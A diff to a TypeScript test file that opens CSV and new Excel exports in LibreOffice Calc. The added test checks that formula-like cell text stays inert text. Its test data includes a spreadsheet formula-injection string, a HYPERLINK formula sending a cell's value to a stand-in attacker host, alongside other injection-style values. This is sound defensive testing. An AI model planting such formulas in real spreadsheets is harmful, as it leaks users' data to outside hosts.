@@ -6,6 +6,7 @@ import { delimiter, join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, describe, expect, it } from 'vitest';
 import { toCsv, type CsvColumn } from '@/src/csv';
+import { toXlsx } from '@/src/export/xlsx';
 
 // LibreOffice Calc (Debian's libreoffice-calc-nogui) opens the exports as a person would: with its default
 // CSV import, formulas evaluated. A developer without it is told so; CI installs it (.ci/run) and must run this.
@@ -58,31 +59,41 @@ afterAll(async () => {
   if (work) await rm(work, { recursive: true, force: true });
 });
 
+/** This run's own folder, with its own LibreOffice profile: parallel runs do not clash. */
+async function workDir(): Promise<string> {
+  work ??= await mkdtemp(join(tmpdir(), 'csv-calc-'));
+  return work;
+}
+
+/** Opens a file in Calc (with an import filter's options, or as its extension says) and returns the sheet as flat ODF XML. */
+async function calc(input: string, filter?: string): Promise<string> {
+  const dir = await workDir();
+  await run(
+    soffice!,
+    [
+      `-env:UserInstallation=file://${join(dir, 'profile')}`,
+      '--headless',
+      ...(filter ? [`--infilter=${filter}`] : []),
+      '--convert-to',
+      'fods',
+      '--outdir',
+      dir,
+      input,
+    ],
+    { timeout: 90_000 },
+  );
+  return readFile(input.replace(/\.\w+$/, '.fods'), 'utf8');
+}
+
 /** Opens the same CSV once with each separator and returns each sheet as flat ODF XML. */
 async function openInCalc(csv: string): Promise<Record<keyof typeof SEPARATORS, string>> {
-  work = await mkdtemp(join(tmpdir(), 'csv-calc-'));
-  const dir = work;
-  const profile = `file://${join(dir, 'profile')}`;
+  const dir = await workDir();
   const sheets = {} as Record<keyof typeof SEPARATORS, string>;
-  // One soffice at a time per profile; the profile is this run's own, so parallel runs do not clash.
+  // One soffice at a time per profile.
   for (const [name, code] of Object.entries(SEPARATORS) as [keyof typeof SEPARATORS, number][]) {
     const input = join(dir, `${name}.csv`);
     await writeFile(input, csv, 'utf8');
-    await run(
-      soffice!,
-      [
-        `-env:UserInstallation=${profile}`,
-        '--headless',
-        `--infilter=CSV:${code},34,76,1`,
-        '--convert-to',
-        'fods',
-        '--outdir',
-        dir,
-        input,
-      ],
-      { timeout: 90_000 },
-    );
-    sheets[name] = await readFile(join(dir, `${name}.fods`), 'utf8');
+    sheets[name] = await calc(input, `CSV:${code},34,76,1`);
   }
   return sheets;
 }
@@ -113,5 +124,42 @@ describe.skipIf(!soffice && !inCi)('a CSV export opened in LibreOffice Calc', ()
     expect(comma).toContain(`<text:p>${ARABIC}</text:p>`);
     expect(comma.match(/<table:table-row\b/g)).toHaveLength(rows.length + 1);
     expect(comma.match(/office:value-type="float" office:value="-5"/g)).toHaveLength(rows.length);
+  }, 120_000);
+});
+
+describe.skipIf(!soffice && !inCi)('an Excel export opened in LibreOffice Calc', () => {
+  it('shows phones, codes and formula-like text as the text they are, with no apostrophe, and numbers as numbers; no formula', async () => {
+    expect(soffice, 'LibreOffice (soffice) must be installed on CI').toBeDefined();
+    const PHONE = '+966547317224';
+    const texts = [PHONE, '00123', '_x0041_', ...HOSTILE];
+    const sheetRows: Row[] = texts.map((text, index) => ({ id: `r${index}`, text, amount: -5 }));
+    const blob = await toXlsx(sheetRows, columns, { name: 'exports' });
+    const input = join(await workDir(), 'export.xlsx');
+    await writeFile(input, new Uint8Array(await blob.arrayBuffer()));
+    // Calc writes this sheet indented: the markup between elements is left out.
+    const xml = (await calc(input)).replace(/>\s+</g, '><');
+
+    expect([...xml.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1])).toEqual([]);
+    const textCell = (text: string) =>
+      `office:value-type="string" calcext:value-type="string"><text:p>${text
+        .replace(/&/g, '&amp;')
+        .replace(/"/g, '&quot;')
+        .replace(/</g, '&lt;')
+        .replace(/>/g, '&gt;')}</text:p>`;
+    // Each text twice (first and third column): as text, exactly as written, with no apostrophe.
+    for (const text of [
+      PHONE,
+      '00123',
+      '_x0041_',
+      '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+      '@SUM(1)',
+      '-1+2',
+      '+1',
+      ARABIC,
+    ])
+      expect(xml.split(textCell(text)), text).toHaveLength(3);
+    expect(xml).not.toContain(`'${PHONE}`);
+    expect(xml.match(/office:value-type="float" office:value="-5"/g)).toHaveLength(sheetRows.length);
+    expect(xml.match(/<table:table-row\b/g)).toHaveLength(sheetRows.length + 1);
   }, 120_000);
 });
